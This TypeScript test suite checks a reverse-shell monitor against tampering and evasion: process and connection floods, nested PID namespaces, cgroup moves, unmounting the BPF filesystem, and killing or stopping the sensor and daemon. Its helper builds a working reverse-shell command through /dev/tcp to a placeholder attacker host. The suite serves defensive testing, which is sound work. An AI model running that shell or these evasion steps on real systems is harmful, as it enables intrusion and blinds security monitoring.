// Whoever has a foothold turns against the guard itself: floods, ends, stops, hides. After each blow a plain shell must not be
// obeyed, or the time without eyes must be on record. About three minutes.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { z } from "zod";
import { prepareAttacks } from "../attacks.ts";
import { describeOutcome, type HardAttack, obeyed, runHard } from "../hard_attacks.ts";
import { copyRelease, lastWords, mustInstall, waitForKernel, waitUntil } from "../product.ts";
import { bootHost, type Host } from "../testhost.ts";

setDefaultTimeout(180_000);
const SHELLS_AT_ONCE = 4;
const stateSchema = z.looseObject({
  pid: z.number(),
  sensor: z.looseObject({
    state: z.string(),
    pid: z.number().optional(),
    beat: z.looseObject({ lost: z.array(z.number()) }).optional(),
  }),
  kernel: z.looseObject({ blindWindows: z.array(z.looseObject({ fromMs: z.number() })) }),
});

interface Blow {
  readonly name: string;
  /** Bash in the host, as a unit, while the shells start. */
  readonly meanwhile: string;
  /** Bash around the shell's own command. */
  readonly around?: (script: string) => string;
  readonly user?: string;
}

const quoted = (script: string): string => `'${script.replaceAll("'", "'\\''")}'`;
const FLOOD_OF_CONNECTIONS = `exec python3 -c 'import socket,time
l = socket.create_server(("127.0.0.1", 7001), backlog=900)
end = time.time() + 12
while time.time() < end:
    c = socket.create_connection(("127.0.0.1", 7001)); a, _ = l.accept(); c.close(); a.close()'`;
const MANY_CLIENTS = `exec python3 -c 'import os,socket,subprocess,time
l = socket.create_server(("127.0.0.1", 7002), backlog=900)
p = [subprocess.Popen(["python3", "-c", "import socket,subprocess,time\\ns=socket.create_connection((chr(49)+chr(50)+chr(55)+\\".0.0.1\\",7002))\\ns.recv(9)\\nsubprocess.run([\\"true\\"])\\ntime.sleep(8)"]) for _ in range(150)]
for _ in p:
    a, _x = l.accept(); a.sendall(b"hello")
    globals().setdefault("k", []).append(a)
time.sleep(8)'`;
const BLOWS: readonly Blow[] = [
  {
    name: "a flood of programs by a user on both cores",
    user: "alice",
    meanwhile:
      "for core in 1 2 3 4; do (end=$((SECONDS + 12)); while [ $SECONDS -lt $end ]; do /bin/true; done) & done; wait",
  },
  { name: "a flood of connections by a user", user: "alice", meanwhile: FLOOD_OF_CONNECTIONS },
  { name: "a crowd of inline clients that are spoken to first", user: "alice", meanwhile: MANY_CLIENTS },
  {
    name: "arguments of a megabyte and of no encoding",
    user: "alice",
    meanwhile: `exec python3 -c 'import subprocess
for n in range(300): subprocess.run(["/bin/true", *[b"\\xff\\xfe\\x80" * 30000] * 10])'`,
  },
  {
    name: "three PID namespaces inside each other",
    meanwhile: "true",
    around: (script) =>
      `exec unshare -pf --mount-proc unshare -pf --mount-proc unshare -pf --mount-proc bash -c ${quoted(script)}`,
    user: "root",
  },
  {
    name: "a cgroup of its own, moved to before the shell starts",
    meanwhile: "true",
    around: (script) =>
      `mkdir -p /sys/fs/cgroup/elsewhere/$$ && echo $$ >/sys/fs/cgroup/elsewhere/$$/cgroup.procs; exec bash -c ${quoted(script)}`,
    user: "root",
  },
  {
    name: "a cgroup namespace and a mount namespace without /proc",
    meanwhile: "true",
    around: (script) => `exec unshare -mC bash -c ${quoted(`mount -t tmpfs none /proc; ${script}`)}`,
    user: "root",
  },
  {
    name: "the file system of BPF unmounted",
    meanwhile: "umount -l /sys/fs/bpf 2>/dev/null; umount -l /run/algo-monitor/bpf 2>/dev/null; true",
    user: "root",
  },
  {
    name: "a seccomp filter and no_new_privs on the shell",
    meanwhile: "true",
    around: (script) => `exec setpriv --no-new-privs bash -c ${quoted(script)}`,
  },
];

describe("blows against the guard", () => {
  let host: Host;
  let port = 6000;
  beforeAll(async () => {
    host = await bootHost();
    await prepareAttacks(host);
    await copyRelease(host);
    await mustInstall(host);
    await waitForKernel(host);
  });
  afterAll(async () => {
    if (host !== undefined) await host.stop();
  });

  async function state(): Promise<z.infer<typeof stateSchema>> {
    return stateSchema.parse(JSON.parse(await host.must("algo-monitor status --json")));
  }

  /** Several, as one alone may be lucky. What was obeyed, one line each. */
  async function shellsThatWereObeyed(name: string, blow?: Blow): Promise<string[]> {
    const plain = (at: { attacker: string; port: number }) =>
      `bash -c "exec sh <>/dev/tcp/${at.attacker}/${at.port} >&0 2>&1"`;
    const attacks = Array.from(
      { length: SHELLS_AT_ONCE },
      (_, n): HardAttack => ({
        name: `${name} ${n}`,
        kind: "reverse",
        transport: "tcp",
        ...(blow?.around === undefined ? {} : { user: "root" }),
        script: (place) => (blow?.around ?? ((script: string) => script))(plain(place)),
      }),
    );
    const outcomes = await runHard(host, attacks, { name: "blow", firstPort: port, guarded: true });
    port += SHELLS_AT_ONCE;
    const absent = outcomes.filter((outcome) => !outcome.connected);
    expect(absent.map(describeOutcome), "every shell reached its attacker").toEqual([]);
    return outcomes.filter(obeyed).map(describeOutcome);
  }

  for (const [index, blow] of BLOWS.entries()) {
    test(`no shell is obeyed during or after: ${blow.name}`, async () => {
      const before = await state();
      await host.start(`blow-${index}`, blow.meanwhile, blow.user === undefined ? {} : { user: blow.user });
      await Bun.sleep(1_000);
      const loose = await shellsThatWereObeyed(blow.name, blow);
      await host.stopUnit(`blow-${index}`);
      loose.push(...(await shellsThatWereObeyed(`after ${blow.name}`)));
      const after = await state();
      console.log(
        `${blow.name}: obeyed ${loose.length}; lost by lane ${JSON.stringify(before.sensor.beat?.lost)} -> ${JSON.stringify(after.sensor.beat?.lost)}; same daemon ${before.pid === after.pid}, same sensor ${before.sensor.pid === after.sensor.pid}`,
      );
      expect(loose, await lastWords(host)).toEqual([]);
      expect(after.pid, "the daemon lives on").toBe(before.pid);
    });
  }

  for (const signal of ["KILL", "STOP"]) {
    test(`SIG${signal} to the sensor: it is back, the gap is on record, no shell is obeyed afterwards`, async () => {
      const before = await state();
      await host.must(`kill -${signal} ${before.sensor.pid}`);
      await waitUntil(
        "another sensor",
        async () => {
          const now = (await state()).sensor;
          return now.state === "kernel" && now.pid !== before.sensor.pid && now.beat !== undefined;
        },
        25_000,
      );
      expect((await state()).kernel.blindWindows.length).toBeGreaterThan(before.kernel.blindWindows.length);
      expect(await shellsThatWereObeyed(`after SIG${signal}`)).toEqual([]);
    });

    test(`SIG${signal} to the daemon: systemd starts it again, no shell is obeyed afterwards`, async () => {
      const before = await state();
      await host.must(`kill -${signal} ${before.pid}`);
      const isBack = async (): Promise<boolean> => {
        const asked = await host.exec("timeout 3 algo-monitor status --json");
        if (asked.exitCode !== 0) return false;
        const now = stateSchema.safeParse(JSON.parse(asked.stdout));
        return now.success && now.data.pid !== before.pid && now.data.sensor.beat !== undefined;
      };
      await waitUntil("another daemon", isBack, 90_000);
      expect(await shellsThatWereObeyed(`after SIG${signal} to the daemon`)).toEqual([]);
    });
  }
});
